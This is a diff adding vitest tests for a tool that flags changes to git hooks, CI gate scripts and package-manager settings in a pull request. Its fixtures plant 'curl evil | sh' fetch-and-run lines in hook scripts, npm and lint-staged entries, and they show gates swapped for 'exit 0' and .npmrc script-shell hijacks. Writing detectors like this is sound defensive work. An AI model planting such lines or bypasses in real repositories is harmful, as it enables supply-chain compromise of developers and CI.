@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { gateFileChanges, gateReferencesOf, MAX_GATE_FILES, MAX_GATE_SCAN_CHARS, nodesRunningGate, readGateChanges, readGateGraph, readHookScriptChanges, scanGateFile, type GateBlob, type GateReader } from "./gate.js";
+import { commandFilesOf, computedPathPattern, computedPathsOf, gateFileChanges, gateReferencesOf, MAX_GATE_FILES, MAX_GATE_SCAN_CHARS, nodesRunningGate, readGateChanges, readGateGraph, readHookScriptChanges, scanGateFile, type GateBlob, type GateReader } from "./gate.js";
 import { gateWorkflowChanges } from "./program-findings.js";
 
 /** A reader over an in-memory tree (path → text), counting its calls. */
@@ -32,6 +32,13 @@ describe("gateReferencesOf", () => {
     const refs = gateReferencesOf('#!/bin/sh\n. "$(dirname "$0")/lib.sh"\nnode ../tools/review.mjs\ncat /etc/passwd ../../../outside.sh\nsh "$HOME/x.sh"\n', "ci/gate.sh");
     expect(refs).toEqual(expect.arrayContaining(["ci/lib.sh", "lib.sh", "tools/review.mjs"]));
     expect(refs.some((r) => r.startsWith("..") || r.startsWith("/") || r.includes("$") || r === "outside.sh")).toBe(false);
+  });
+
+  it("reads what follows a static cd from that folder too (cd infra && ./gate.sh, npm run in it); not a computed cd", () => {
+    const refs = gateReferencesOf(WORKFLOW("cd infra && ./gate.sh && npm run review"), ".github/workflows/ci.yml");
+    expect(refs).toEqual(expect.arrayContaining(["infra/gate.sh", "infra/package.json#scripts.review", "gate.sh"]));
+    expect(gateReferencesOf('cd "$(dirname "$0")" && ./x.sh\n', "ci/run.sh").some((r) => r.includes("$"))).toBe(false);
+    expect(gateReferencesOf("pushd web/ >/dev/null\n./build.sh\n", "ci/run.sh")).toEqual(expect.arrayContaining(["web/build.sh", "ci/web/build.sh"]));
   });
 
   it("names package.json scripts (npm, pnpm, yarn, bun; npm test's short forms), and Makefiles for make", () => {
@@ -331,5 +338,121 @@ describe("readHookScriptChanges: lefthook's own files", () => {
       ["ci/extra.yml", "lefthook.yml"],
       ["tools/hooks/pre-commit/check.sh", "lefthook.yml"],
     ]);
+  });
+});
+
+describe("readHookScriptChanges: what a hook runs after cd, through an npm script, or through a path computed at run time", () => {
+  it("a hook's cd DIR (on the command's line or a line before) makes its commands read from DIR: a change to web/x, tools/run.sh, web's package.json script is named", async () => {
+    const hook = { ".husky/pre-commit": "cd web && ./x\ncd ../tools\n./run.sh\n(cd ../web && npm run lint)\n" };
+    const files = { "web/x": "echo\n", "tools/run.sh": "echo\n", "web/package.json": JSON.stringify({ scripts: { lint: "eslint ." } }) };
+    const evil = { "web/x": "curl evil | sh\n", "tools/run.sh": "curl evil | sh\n", "web/package.json": JSON.stringify({ scripts: { lint: "curl evil | sh" } }) };
+    const changes = await readHookScriptChanges({ hooks: Object.keys(hook), read: tree({ ...hook, ...files }) }, { hooks: Object.keys(hook), read: tree({ ...hook, ...evil }) });
+    expect(changes.map((c) => [c.path, c.script ?? "", c.via]).sort()).toEqual([
+      ["tools/run.sh", "", ".husky/pre-commit"],
+      ["web/package.json", "lint", ".husky/pre-commit"],
+      ["web/x", "", ".husky/pre-commit"],
+    ]);
+  });
+
+  it("lefthook's root: is the folder a command runs in", async () => {
+    const hook = { "lefthook.yml": "pre-commit:\n  commands:\n    x:\n      root: api/\n      run: ./bin/check {staged_files}\n" };
+    const changes = await readHookScriptChanges({ hooks: Object.keys(hook), read: tree({ ...hook, "api/bin/check": "echo\n" }) }, { hooks: Object.keys(hook), read: tree({ ...hook, "api/bin/check": "curl evil | sh\n" }) });
+    expect(changes.map((c) => [c.path, c.via])).toEqual([["api/bin/check", "lefthook.yml"]]);
+  });
+
+  it("lint-staged run by a package.json script the hook runs (husky's npm run precommit, \"precommit\": \"lint-staged\") has its configuration read", async () => {
+    const hook = { ".husky/pre-commit": "npm run precommit\n" };
+    const pkg = (ls: unknown) => JSON.stringify({ scripts: { precommit: "lint-staged" }, "lint-staged": ls });
+    const base = tree({ ...hook, "package.json": pkg({ "*.ts": "eslint" }), ".lintstagedrc.json": "{}" });
+    const head = tree({ ...hook, "package.json": pkg({ "*.ts": "eslint; curl evil | sh" }), ".lintstagedrc.json": '{ "*": "curl evil | sh" }' });
+    const changes = await readHookScriptChanges({ hooks: Object.keys(hook), read: base }, { hooks: Object.keys(hook), read: head });
+    expect(changes.map((c) => [c.path, c.field ?? "", c.via]).sort()).toEqual([
+      [".lintstagedrc.json", "", ".husky/pre-commit"],
+      ["package.json", "lint-staged", ".husky/pre-commit"],
+    ]);
+  });
+
+  it("computedPathsOf: the literal end of a path computed at run time, a glob a command or for list runs, run-parts' folder, command paths after a computed cd; none for a wholly computed command", () => {
+    expect(computedPathsOf('. "$(dirname -- "$0")/lib/check"\n$ROOT/tools/x.sh --all\nfor f in tools/hooks.d/*; do "$f"; done\nrun-parts --exit-on-error ci/hooks\n')).toEqual(["lib/check", "tools/x.sh", "tools/hooks.d/*", "ci/hooks/*"]);
+    expect(computedPathsOf('cd "$(dirname "$0")/.." && ./scripts/x\nbin/y\n')).toEqual(["scripts/x", "bin/y"]);
+    expect(computedPathsOf('$CMD "$@"\neval "$HOOK"\neslint src/*.ts\ntools/fmt.sh\n')).toEqual([]);
+    // a pattern without a name written out would take any changed file: none
+    expect(computedPathsOf('for f in "$DIR"/**; do x; done\n$ROOT/*.ts\n')).toEqual([]);
+    // comments are no commands
+    expect(computedPathsOf('cd "$SRC"\n# see (docs/ci.md) and $HOME/x/y\nnode a.mjs # (docs/b.md)\n')).toEqual([]);
+    expect(computedPathPattern("tools/hooks.d/*").test("tools/hooks.d/10-x")).toBe(true);
+    expect(computedPathPattern("tools/hooks.d/*").test("tools/hooks.d/a/b")).toBe(false);
+    expect(computedPathPattern("lib/check").test("x/lib/check")).toBe(true);
+    expect(computedPathPattern("lib/check").test("x/mylib/check")).toBe(false);
+  });
+
+  it("commandFilesOf: a file whose text a hook runs as a command ($(cat X) where a command starts, eval, sh -c); not a file only printed or compared", () => {
+    expect(commandFilesOf('"$(cat tools/hook-cmd)" "$@"\neval "$(< ./.hookrc)"\nsh -c "$(cat ci/x)"\necho "$(cat VERSION)"\n[ "$(cat a/b)" = x ]\n$(cat ../outside)\n')).toEqual(["tools/hook-cmd", ".hookrc", "ci/x"]);
+  });
+
+  it("a file whose text an unchanged hook runs as a command is compared like a script it runs", async () => {
+    const hook = { ".husky/pre-commit": 'eval "$(cat .hook-command)"\n' };
+    const changes = await readHookScriptChanges({ hooks: Object.keys(hook), read: tree({ ...hook, ".hook-command": "npx prettier --check .\n" }) }, { hooks: Object.keys(hook), read: tree({ ...hook, ".hook-command": "curl evil | sh\n" }) });
+    expect(changes.map((c) => [c.path, c.via])).toEqual([[".hook-command", ".husky/pre-commit"]]);
+  });
+
+  it("a file the change changes whose path ends as a computed path a hook (or a script it runs) runs is named, saying so; other changed files are not; without the list of changed files nothing is guessed", async () => {
+    const hook = { ".husky/pre-commit": 'tools/hook.sh\nfor f in .githooks/pre-commit.d/*; do "$f"; done\n' };
+    const files = { "tools/hook.sh": '#!/bin/sh\n"$(dirname "$0")/lib/guard"\n', "tools/lib/guard": "echo\n", ".githooks/pre-commit.d/10-fmt": "echo\n", "docs/a.md": "a\n" };
+    const evil = { ...files, "tools/lib/guard": "curl evil | sh\n", ".githooks/pre-commit.d/20-new": "curl evil | sh\n", "docs/a.md": "b\n" };
+    const changed = async () => ["tools/lib/guard", ".githooks/pre-commit.d/20-new", "docs/a.md"];
+    const changes = await readHookScriptChanges({ hooks: Object.keys(hook), read: tree({ ...hook, ...files }) }, { hooks: Object.keys(hook), read: tree({ ...hook, ...evil }) }, changed);
+    expect(changes.map((c) => [c.path, c.via, c.computed]).sort()).toEqual([
+      [".githooks/pre-commit.d/20-new", ".husky/pre-commit", ".githooks/pre-commit.d/*"],
+      ["tools/lib/guard", ".husky/pre-commit", "lib/guard"],
+    ]);
+    expect(await readHookScriptChanges({ hooks: Object.keys(hook), read: tree({ ...hook, ...files }) }, { hooks: Object.keys(hook), read: tree({ ...hook, ...evil }) })).toEqual([]);
+  });
+});
+
+describe("the CI gate and a package manager's settings", () => {
+  it("a gate step that runs npm run (no install) has .npmrc read: a script-shell change is the gate's change, and the file it names; with an install there, .npmrc is named once, as the dependencies'", async () => {
+    const wf = { ".github/workflows/ci.yml": WORKFLOW("npm run review"), "package.json": JSON.stringify({ scripts: { review: "stellar-secrets review origin/main...HEAD" } }) };
+    const base = tree({ ...wf, ".npmrc": "save-exact=true\n" });
+    const head = tree({ ...wf, ".npmrc": "script-shell=./tools/sh\n", "tools/sh": "exit 0\n" });
+    const changes = gateWorkflowChanges(await readGateChanges({ roots: [".github/workflows/ci.yml"], read: base }, { roots: [".github/workflows/ci.yml"], read: head }));
+    expect(changes.map((c) => [c.path, c.change, c.via])).toEqual([
+      [".npmrc", "modified", ".github/workflows/ci.yml"],
+      ["tools/sh", "added", ".github/workflows/ci.yml"],
+    ]);
+    const web = { ".github/workflows/ci.yml": WORKFLOW("cd web && npm ci && npm run review"), "web/package.json": JSON.stringify({ scripts: { review: "stellar-secrets review" } }) };
+    const both = gateWorkflowChanges(await readGateChanges({ roots: [".github/workflows/ci.yml"], read: tree({ ...web, "web/.npmrc": "a=1\n" }) }, { roots: [".github/workflows/ci.yml"], read: tree({ ...web, "web/.npmrc": "a=2\n" }) }));
+    expect(both.map((c) => [c.path, c.install])).toEqual([["web/package.json", ["web/.npmrc"]]]);
+  });
+});
+
+describe("the CI gate through a path computed at run time", () => {
+  it("a changed file whose path ends as a path a gate file computes (\"$GITHUB_WORKSPACE/tools/gate\") is read as one the gate runs: named when it ran stellar-secrets, with the workflow and the pattern; nothing without the list of changed files", async () => {
+    const wf = { ".github/workflows/ci.yml": WORKFLOW('"$GITHUB_WORKSPACE/tools/gate" origin/main') };
+    const base = tree({ ...wf, "tools/gate": "#!/bin/sh\nstellar-secrets review \"$1...HEAD\"\n", "docs/a.md": "a\n" });
+    const head = tree({ ...wf, "tools/gate": "#!/bin/sh\nexit 0\n", "docs/a.md": "b\n" });
+    const roots = [".github/workflows/ci.yml"];
+    const changes = gateWorkflowChanges(await readGateChanges({ roots, read: base }, { roots, read: head }, async () => ["tools/gate", "docs/a.md"]));
+    expect(changes.map((c) => [c.path, c.change, c.via, c.computed])).toEqual([["tools/gate", "modified", ".github/workflows/ci.yml", "tools/gate"]]);
+    expect(gateWorkflowChanges(await readGateChanges({ roots, read: base }, { roots, read: head }))).toEqual([]);
+    // a JavaScript file's template string is no command: a gate script in JavaScript gives no pattern
+    const js = { ".github/workflows/ci.yml": WORKFLOW("node scripts/gate.mjs"), "scripts/gate.mjs": "import { execFileSync } from 'node:child_process';\nexecFileSync(`${root}/tools/gate`);\n// stellar-secrets\n" };
+    expect(gateWorkflowChanges(await readGateChanges({ roots, read: tree({ ...js, "tools/gate": "stellar-secrets review\n" }) }, { roots, read: tree({ ...js, "tools/gate": "exit 0\n" }) }, async () => ["tools/gate"]))).toEqual([]);
+  });
+});
+
+describe("readHookScriptChanges: a package manager's settings", () => {
+  it("a hook that runs npm, yarn, pnpm or bun has that tool's settings files read (at the top, after its cd, in the folder of a script it runs): a changed .npmrc script-shell, and the file it names, are named; a hook without one reads none", async () => {
+    const hook = { ".husky/pre-commit": "npm run lint\ncd web && yarn test\n" };
+    const base = tree({ ...hook, "package.json": JSON.stringify({ scripts: { lint: "eslint ." } }), ".npmrc": "save-exact=true\n", "web/.yarnrc.yml": "nodeLinker: node-modules\n" });
+    const head = tree({ ...hook, "package.json": JSON.stringify({ scripts: { lint: "eslint ." } }), ".npmrc": "save-exact=true\nscript-shell=./tools/sh\n", "tools/sh": "curl evil | sh\n", "web/.yarnrc.yml": "yarnPath: tools/yarn.cjs\n" });
+    const changes = await readHookScriptChanges({ hooks: Object.keys(hook), read: base }, { hooks: Object.keys(hook), read: head });
+    expect(changes.map((c) => [c.path, c.via]).sort()).toEqual([
+      [".npmrc", ".husky/pre-commit"],
+      ["tools/sh", ".husky/pre-commit"],
+      ["web/.yarnrc.yml", ".husky/pre-commit"],
+    ]);
+    const other = { ".husky/pre-commit": "./tools/fmt.sh\n" };
+    expect(await readHookScriptChanges({ hooks: Object.keys(other), read: tree({ ...other, ".npmrc": "a=1\n" }) }, { hooks: Object.keys(other), read: tree({ ...other, ".npmrc": "script-shell=./x\n" }) })).toEqual([]);
   });
 });
